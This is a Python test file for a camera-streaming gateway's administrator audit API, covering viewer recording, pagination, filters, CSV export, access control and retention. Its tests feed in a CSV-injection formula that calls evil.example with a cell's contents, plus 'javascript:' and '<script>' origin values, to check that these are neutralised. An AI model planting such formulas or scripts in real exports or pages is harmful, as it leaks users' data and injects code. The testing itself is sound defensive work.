"""The audit for administrators: who watched, where and when; pages, CSV, and no more than that."""

import asyncio
import csv
import io
import sqlite3
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from gateway.api import keys, tickets
from gateway.api.ports import Stores
from gateway.model.access import View, Way
from gateway.store.audit import AuditRecords
from tests.rooms.api.people import ANNA, Client, browser, signed_in
from tests.rooms.api.stage import (
    OFFER,
    SDP,
    STAFF,
    TICKET_SECRET,
    HandClock,
    Stage,
    problem_of,
)
from tests.waiting import until

EVIL = '=HYPERLINK("https://evil.example?"&A1)'


@pytest.fixture
async def door(stage: Stage, tmp_path: Path) -> AsyncIterator[Client]:
    """Give a client at doors that record."""
    audit = AuditRecords(tmp_path)
    stage.stores = Stores(audit=audit)
    stage.settings = replace(stage.settings, accounts=(ANNA,))
    client = await browser(stage)
    yield client
    await client.close()
    await audit.close()


async def views(client: Client, query: str = "") -> list[dict[str, Any]]:
    response = await client.get(f"/api/v1/audit{query}", headers=STAFF)
    assert response.status == 200, await response.text()
    return list((await response.json())["views"])


async def recorded(client: Client, count: int) -> list[dict[str, Any]]:
    async def there() -> list[dict[str, Any]]:
        found = await views(client)
        return found if len(found) == count else []

    return await until(there)


def row(number: int, **more: Any) -> View:
    made: dict[str, Any] = {
        "play": f"p{number}",
        "site": "open",
        "camera": "yard",
        "way": Way.PUBLIC,
        "who": "",
        "address": "ab",
        "website": "",
        "started": 1_700_000_000.0 + number,
    }
    return View(**(made | more))


async def test_everybody_who_watches_is_recorded(door: Client, tmp_path: Path) -> None:
    token = tickets.mint(
        TICKET_SECRET, sites=["tickets"], valid_s=60, now=datetime.now(UTC), subject="flat 7"
    )
    csrf = (await signed_in(door))["csrf_token"]
    ways: list[dict[str, str]] = [
        {"Authorization": f"Bearer {token}"},
        STAFF,
        {"X-CSRF-Token": csrf},
        {},
    ]
    for number, headers in enumerate(ways):
        where = "open" if number == 3 else "tickets"
        answer = await door.post(f"/whep/{where}/yard", data=OFFER, headers=SDP | headers)
        assert answer.status == 201
    refused = await door.post("/whep/office/yard", data=OFFER, headers=SDP)
    assert refused.status == 401
    found = [(view["way"], view["who"], view["site"]) for view in await recorded(door, 4)]
    assert found == [
        ("public", "", "open"),
        ("account", "anna", "tickets"),
        ("token", "staff token", "tickets"),
        ("ticket", "flat 7", "tickets"),
    ]
    (address,) = {view["address"] for view in await views(door)}
    assert len(address) == 16
    content = (tmp_path / "audit.db").read_bytes() + (tmp_path / "audit.db-wal").read_bytes()
    assert b"127.0.0.1" not in content
    assert b"loopback" not in content


@pytest.mark.parametrize(
    ("origin", "website"),
    [
        ("https://uk.example", "https://uk.example"),
        ("null", ""),
        ("https://uk.example/path?x=<script>", "https://uk.example"),
        ("javascript:alert(1)", ""),
        ("https://[::1", ""),
        ("https://" + "x" * 3000, "https://" + "x" * 192),
    ],
)
async def test_the_website_is_an_origin(door: Client, origin: str, website: str) -> None:
    answer = await door.post("/whep/open/yard", data=OFFER, headers=SDP | {"Origin": origin})
    assert answer.status == 201
    (view,) = await recorded(door, 1)
    assert view["website"] == website


async def test_pages_filters_and_times(door: Client, stage: Stage) -> None:
    assert stage.stores.audit is not None
    for number in range(7):
        stage.stores.audit.begin(row(number, site="open" if number % 2 else "office"))
        stage.stores.audit.end(f"p{number}", 1_700_000_000.0 + number + 0.5, "left")
    await recorded(door, 7)
    first = await (await door.get("/api/v1/audit?limit=3", headers=STAFF)).json()
    assert [view["id"] for view in first["views"]] == [7, 6, 5]
    rest = await views(door, f"?limit=10&before={first['next']}")
    assert [view["id"] for view in rest] == [4, 3, 2, 1]
    assert [view["id"] for view in await views(door, "?site=open")] == [6, 4, 2]
    span = "?from=2023-11-14T22:13:22Z&to=2023-11-14T22:13:24"
    assert [view["id"] for view in await views(door, span)] == [4, 3]
    assert await views(door, "?camera=roof") == []
    last = (await views(door))[-1]
    assert (last["from"], last["to"]) == ("2023-11-14T22:13:20Z", "2023-11-14T22:13:20Z")


@pytest.mark.parametrize(
    "query",
    ["from=yesterday", "to=9999-99-99", "limit=0", "limit=1001", "limit=-1", "before=x",
     "before=99999999999999999999", "limit=\u0661"],
)  # fmt: skip
async def test_questions_without_sense(door: Client, query: str) -> None:
    response = await door.get(f"/api/v1/audit?{query}", headers=STAFF)
    assert (await problem_of(response))["kind"] == "bad_request"


async def test_a_spreadsheet_runs_nothing_of_the_export(door: Client, stage: Stage) -> None:
    assert stage.stores.audit is not None
    evil = (EVIL, "+1", "-1", "@SUM(A1)", "\t=1", 'a"b,c\r\nd', "Анна")
    for number, who in enumerate(evil):
        stage.stores.audit.begin(row(number, who=who))
    await recorded(door, len(evil))
    response = await door.get("/api/v1/audit.csv", headers=STAFF)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment")
    lines = list(csv.DictReader(io.StringIO(await response.text(), newline="")))
    assert [line["who"] for line in reversed(lines)] == [
        "'" + EVIL, "'+1", "'-1", "'@SUM(A1)", "'\t=1", 'a"b,c\r\nd', "Анна",
    ]  # fmt: skip


async def test_the_export_holds_more_than_a_page(door: Client, stage: Stage) -> None:
    assert stage.stores.audit is not None
    for number in range(2100):
        stage.stores.audit.begin(row(number))

    async def whole() -> bool:
        response = await door.get("/api/v1/audit.csv?site=open", headers=STAFF)
        return len((await response.text()).splitlines()) == 2101

    await until(whole)


@pytest.mark.parametrize("path", ["/api/v1/audit", "/api/v1/audit.csv"])
async def test_only_administrators_read_it(door: Client, path: str) -> None:
    assert (await door.get(path)).status == 401
    token = tickets.mint(TICKET_SECRET, sites=["open"], valid_s=60, now=datetime.now(UTC))
    holder = {"Authorization": f"Bearer {token}"}
    assert (await door.get(path, headers=holder)).status == 403
    await signed_in(door)
    assert (await door.get(path)).status == 200


async def test_old_rows_are_deleted(stage: Stage, tmp_path: Path) -> None:
    audit = AuditRecords(tmp_path)
    stage.stores = Stores(audit=audit)
    stage.clock = HandClock()
    now = datetime.now(UTC).timestamp()
    stage.settings = replace(stage.settings, audit_days=30)
    for number, age_days in enumerate((31, 29)):
        audit.begin(row(number, started=now - age_days * 86_400))
        audit.end(f"p{number}", now - age_days * 86_400 + 1, "left")
    client = await browser(stage)
    (left,) = await recorded(client, 1)
    assert left["id"] == 2
    stage.settings = replace(stage.settings, audit_days=28)
    await until(lambda: _count(tmp_path) == 0)
    await client.close()
    await audit.close()


async def test_no_play_waits_for_a_disk_that_hangs(door: Client, tmp_path: Path) -> None:
    other = sqlite3.connect(tmp_path / "audit.db")
    other.execute("BEGIN EXCLUSIVE")
    async with asyncio.timeout(4):  # the store itself would wait five seconds for the lock
        for _ in range(20):
            answer = await door.post("/whep/open/yard", data=OFFER, headers=SDP)
            assert answer.status == 201
    other.rollback()
    other.close()
    assert len(door.app[keys.PLAYS]) == 20
    await recorded(door, 20)


async def test_without_records_there_is_nothing_to_read(stage: Stage) -> None:
    client = await browser(stage)
    assert (await client.get("/api/v1/audit", headers=STAFF)).status == 404
    await client.close()


def _count(folder: Path) -> int:
    connection = sqlite3.connect(folder / "audit.db")
    try:
        (count,) = connection.execute("SELECT count(*) FROM views").fetchone()
    finally:
        connection.close()
    return int(count)


async def test_by_a_part_of_the_name_and_only_who_watches_now(door: Client, stage: Stage) -> None:
    audit = stage.stores.audit
    assert audit is not None
    for number, who in enumerate(("flat 7", "flat 17", "Анна", "100%")):
        audit.begin(row(number, who=who))
        if number < 2:
            audit.end(f"p{number}", 1_700_000_100.0, "left")
    await recorded(door, 4)
    assert [view["who"] for view in await views(door, "?who=7")] == ["flat 17", "flat 7"]
    assert [view["who"] for view in await views(door, "?who=Анн")] == ["Анна"]
    assert [view["who"] for view in await views(door, "?who=%25")] == ["100%"], "no pattern"
    assert [view["who"] for view in await views(door, "?now=1")] == ["100%", "Анна"]
    response = await door.get("/api/v1/audit.csv?now=1&who=Анна", headers=STAFF)
    assert len((await response.text()).splitlines()) == 2
